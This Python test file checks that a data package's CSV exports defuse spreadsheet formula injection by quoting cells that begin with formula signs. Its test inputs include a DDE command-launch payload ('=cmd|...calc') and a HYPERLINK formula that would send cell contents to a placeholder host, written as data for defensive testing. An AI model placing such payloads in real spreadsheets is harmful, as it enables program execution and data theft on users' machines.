"""No cell that people open in a spreadsheet is a formula."""

import ast
import csv
from pathlib import Path
from unicodedata import category

import pandas as pd
import pyarrow as pa
import pytest
from commands import ROOT
from faults.corpus import fault
from hypothesis import given, settings
from hypothesis import strategies as st

from patronage import io
from patronage.loggable import Table
from patronage.tables import NAMES
from patronage.tracking.pack import pack

SIGNS = "=+-@＝＋－＠"
FIRST = "\t\r\n\0"
BEFORE = ["", " ", '"', "'", "\n", "\r\n", "\t", "\0", "\u200b", "\u3000", "\xa0"]
UNSEEN = {"Cc", "Cf", "Co", "Zl", "Zp", "Zs"}
TEXTS = [f"{before}{sign}1+1" for before in BEFORE for sign in SIGNS]
TEXTS += [f"{sign}x" for sign in FIRST]
TEXTS += [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "-2+3",
    "+86 139",
    "@SUM(1)",
]
# The one door for tables as text, and the parcel of what is tracked.
DOORS = {"src/patronage/io/csv.py", "src/patronage/tracking/pack.py"}
WRITERS = {"to_csv", "to_excel", "CSVWriter", "DictWriter", "ExcelWriter", "writer"}


def by_io(folder: Path, frame: pd.DataFrame) -> Path:
    path = folder / "written.csv"
    io.write_csv(path, pa.Table.from_pandas(frame, preserve_index=False))
    return path


def by_tracking(folder: Path, frame: pd.DataFrame) -> Path:
    pack([Table("written.csv", frame)], folder)
    return folder / "written.csv"


WAYS = [by_io, by_tracking]


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def is_formula(cell: str) -> bool:
    """As a spreadsheet of any country may take it."""
    bare = "".join(sign for sign in cell if category(sign) not in UNSEEN)
    return cell.startswith(tuple(FIRST)) or bare.lstrip("\"'").startswith(tuple(SIGNS))


def test_the_oracle_knows_a_formula():
    assert all(map(is_formula, TEXTS))
    assert not any(map(is_formula, ["a=1", "1-2", "x@y.cn", "", "客户"]))


@fault(106)
@pytest.mark.parametrize("write", WAYS)
def test_a_text_that_begins_like_a_formula_is_text(write, tmp_path):
    frame = pd.DataFrame({"name": TEXTS, "amount": -1.5, "count": -2})
    head, *rows = cells(write(tmp_path, frame))
    assert head == ["name", "amount", "count"]
    assert [name for name, *_ in rows] == [f"'{text}" for text in TEXTS]
    assert {(amount, count) for _, amount, count in rows} == {("-1.5", "-2")}


@fault(106)
@pytest.mark.parametrize("write", WAYS)
def test_so_are_the_names_of_columns_which_a_source_gives(write, tmp_path):
    frame = pd.DataFrame([[1] * len(TEXTS)], columns=TEXTS)
    head, _ = cells(write(tmp_path, frame))
    assert head == [f"'{text}" for text in TEXTS]


@fault(106)
@pytest.mark.parametrize("write", WAYS)
@pytest.mark.parametrize("kind", ["str", "object", "category"])
def test_it_does_not_matter_how_a_text_is_kept(write, kind, tmp_path):
    frame = pd.DataFrame({"name": pd.Series(["=1", None, "b"], dtype=kind)})
    assert cells(write(tmp_path, frame))[1][0] == "'=1"


@fault(106)
@settings(max_examples=60)
@given(text=st.text(st.characters(exclude_categories=["Cs", "Cn"]), max_size=8))
@pytest.mark.parametrize("write", WAYS)
def test_no_text_at_all_is_a_formula_or_lost(write, text, tmp_path_factory):
    frame = pd.DataFrame({"text": [text, f"={text}"], "n": [-1, -2]})
    found = cells(write(tmp_path_factory.getbasetemp(), frame))[1:]
    assert [n for _, n in found] == ["-1", "-2"]
    for (cell, _), told in zip(found, frame["text"], strict=True):
        assert cell.replace("'", "") == told.replace("'", "")
        assert cell.startswith("'") or not is_formula(cell)


@fault(106)
def test_tables_for_machines_stay_as_they_are(tmp_path):
    folder = io.Folder(tmp_path, "shop")
    names = {"scheme": "tiers", "segment": 0, "segment_id": "S01"}
    frame = pd.DataFrame([names | {"name_en": "=1+1", "name_zh": "＝1"}])
    io.write(NAMES, frame, folder, scheme="tiers")
    read = io.read(NAMES, folder, scheme="tiers")
    assert read[["name_en", "name_zh"]].iloc[0].tolist() == ["=1+1", "＝1"]


def writers(path: Path) -> set[str]:
    """What a file calls that writes cells."""
    called = [
        node.func
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Call)
    ]
    return {getattr(each, "attr", getattr(each, "id", "")) for each in called} & WRITERS


@fault(106)
def test_there_are_no_other_doors_for_cells():
    files = [*(ROOT / "src").rglob("*.py"), *(ROOT / "pipelines").glob("*.py")]
    found = {str(path.relative_to(ROOT)) for path in files if writers(path)}
    assert found == DOORS
